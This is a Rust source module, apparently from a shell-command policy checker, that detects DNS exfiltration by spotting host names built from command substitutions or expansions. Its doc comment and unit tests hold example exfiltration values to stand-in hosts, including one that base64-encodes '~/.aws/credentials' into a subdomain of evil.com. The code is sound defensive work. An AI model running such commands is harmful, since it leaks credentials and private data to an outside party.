//! Which network destinations carry computed data into a DNS lookup.
//!
//! Owns the line between an unknown destination (`curl "$URL"`, `curl x "${HEADERS[@]}"`:
//! the host is a value the text does not show, which the policy asks about) and DNS
//! exfiltration (`dig $(cat f).evil.example`, `curl http://${x}.evil.example/`: a host
//! name built from run-time data, which leaks that data to whoever serves the domain
//! even when the connection is never made). Never decides anything else about the
//! destination.

/// One piece of a host name as written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
enum Piece {
    /// Literal host text (`.evil.example`).
    Text,
    /// A parameter expansion (`$x`, `${x}`, `${a[@]}`) or arithmetic.
    Param,
    /// A command substitution (`$(…)`, backticks): data computed by code.
    Command,
}

/// True when the host a word names is built from run-time data: a command
/// substitution in the host, or an expansion joined with literal host text
/// (`${x}.evil.example`, `api.$DOMAIN`), or several expansions (`$a$b`). A host that is
/// exactly one parameter expansion (`$HOST`, `$HOST:8080`, `"$URL"`) is only unknown.
///
/// `url` says the word stands where a URL may stand: a scheme and user information
/// are skipped and the host ends at `/`, `?` or `#`; otherwise the whole word (up to a
/// port) is the host, as for `dig`, `ping` or `host`.
pub(super) fn host_computed(value: &str, url: bool) -> bool {
    if !value.contains(['$', '`']) {
        return false;
    }
    let mut rest = value;
    if url
        && let Some((scheme, after)) = value.split_once("://")
        && !scheme.contains(['$', '`', '/'])
    {
        rest = after;
    }
    let pieces = authority(rest, url);
    let host = host_of(&pieces);
    let has_expansion = host.iter().any(|(p, _)| *p != Piece::Text);
    if !has_expansion {
        return false;
    }
    if host.iter().any(|(p, _)| *p == Piece::Command) {
        return true;
    }
    // Exactly one parameter and nothing else: an unknown destination.
    !(host.len() == 1 && host[0].0 == Piece::Param)
}

/// The pieces of the authority part (up to the first `/`, `?`, `#` outside an
/// expansion when `url`), each with its literal text (empty for expansions).
fn authority(s: &str, url: bool) -> Vec<(Piece, String)> {
    let b = s.as_bytes();
    let mut out: Vec<(Piece, String)> = Vec::new();
    let mut i = 0;
    while i < b.len() {
        match b[i] {
            b'/' | b'?' | b'#' if url => break,
            b'`' => {
                let end = b[i + 1..]
                    .iter()
                    .position(|&c| c == b'`')
                    .map_or(b.len(), |p| i + 2 + p);
                out.push((Piece::Command, String::new()));
                i = end;
            }
            b'$' if b.get(i + 1) == Some(&b'(') => {
                let arithmetic = b.get(i + 2) == Some(&b'(');
                let end = matching(b, i + 1, b'(', b')');
                out.push((
                    if arithmetic {
                        Piece::Param
                    } else {
                        Piece::Command
                    },
                    String::new(),
                ));
                i = end;
            }
            b'$' if b.get(i + 1) == Some(&b'{') => {
                // `${x:-$(cmd)}` computes too.
                let end = matching(b, i + 1, b'{', b'}');
                let inner = s.get(i..end).unwrap_or("");
                let kind = if inner[1..].contains(['$', '`']) {
                    Piece::Command
                } else {
                    Piece::Param
                };
                out.push((kind, String::new()));
                i = end;
            }
            b'$' => {
                let mut j = i + 1;
                match b.get(j) {
                    Some(c) if c.is_ascii_alphabetic() || *c == b'_' => {
                        while j < b.len() && (b[j].is_ascii_alphanumeric() || b[j] == b'_') {
                            j += 1;
                        }
                    }
                    Some(c) if c.is_ascii_digit() || b"@*#?$!-".contains(c) => j += 1,
                    // A lone `$` is a literal character.
                    _ => {
                        push_text(&mut out, "$");
                        i += 1;
                        continue;
                    }
                }
                out.push((Piece::Param, String::new()));
                i = j;
            }
            _ => {
                let ch = crate::word::next_char(s, i);
                push_text(&mut out, ch);
                i += ch.len();
            }
        }
    }
    out
}

fn push_text(out: &mut Vec<(Piece, String)>, t: &str) {
    if let Some((Piece::Text, s)) = out.last_mut() {
        s.push_str(t);
    } else {
        out.push((Piece::Text, t.to_owned()));
    }
}

/// The index after the bracket that closes the one at `open`.
fn matching(b: &[u8], open: usize, l: u8, r: u8) -> usize {
    let mut depth = 0usize;
    let mut i = open;
    while i < b.len() {
        if b[i] == l {
            depth += 1;
        } else if b[i] == r {
            depth -= 1;
            if depth == 0 {
                return i + 1;
            }
        }
        i += 1;
    }
    b.len()
}

/// The host's pieces: user information (up to the last literal `@`) and a port (from
/// the last literal `:`) left out; empty literal pieces dropped.
fn host_of(pieces: &[(Piece, String)]) -> Vec<(Piece, String)> {
    let mut host: Vec<(Piece, String)> = Vec::new();
    for (p, t) in pieces {
        if *p == Piece::Text
            && let Some((_, after)) = t.rsplit_once('@')
        {
            host.clear();
            if !after.is_empty() {
                host.push((Piece::Text, after.to_owned()));
            }
            continue;
        }
        host.push((*p, t.clone()));
    }
    // The port: from the last literal `:` on (an IPv6 literal has no expansion, so
    // it never reaches here with one that matters).
    if let Some(k) = host
        .iter()
        .rposition(|(p, t)| *p == Piece::Text && t.contains(':'))
    {
        let before = host[k].1.split_once(':').map(|(b, _)| b.to_owned());
        host.truncate(k);
        if let Some(b) = before.filter(|b| !b.is_empty()) {
            host.push((Piece::Text, b));
        }
    }
    host
}

#[cfg(test)]
mod tests {
    use super::host_computed;

    #[test]
    fn computed_hosts() {
        for (v, url) in [
            ("$(cat f).evil.example", false),
            ("`whoami`.evil.example", false),
            ("${x}.evil.example", false),
            ("$x.evil.example", false),
            ("api.$DOMAIN", false),
            ("$a$b", false),
            ("$(hostname)", false),
            (
                "https://$(cat ~/.aws/credentials | base64 -w0).evil.com/",
                true,
            ),
            ("http://$(cat f).evil.example/", true),
            ("http://${x}.evil.example/path", true),
            ("http://$x.evil.example:8080/", true),
            ("${x}.evil.example/path", true),
            ("$(cat f).evil.example", true),
            ("https://${A:-$(id)}/", true),
            ("https://user@$(id).evil.example/", true),
            ("https://$(printf %s/x y)/", true),
        ] {
            assert!(host_computed(v, url), "{v} should be a computed host");
        }
    }

    #[test]
    fn unknown_or_literal_hosts() {
        for (v, url) in [
            ("${HEADERS[@]}", true),
            ("$URL", true),
            ("${URL}", true),
            ("$1", true),
            ("$@", true),
            ("https://$HOST/v1/x", true),
            ("https://${HOST}:8443/v1", true),
            ("$HOST:$PORT", true),
            ("https://api.example.com/$(git rev-parse HEAD)", true),
            ("https://api.example.com/v1?q=$(id)", true),
            ("https://user:$TOKEN@api.example.com/", true),
            ("$BASE/v1/x", true),
            ("https://example.com", true),
            ("$HOST", false),
            ("example.com", false),
        ] {
            assert!(!host_computed(v, url), "{v} should not be a computed host");
        }
    }
}
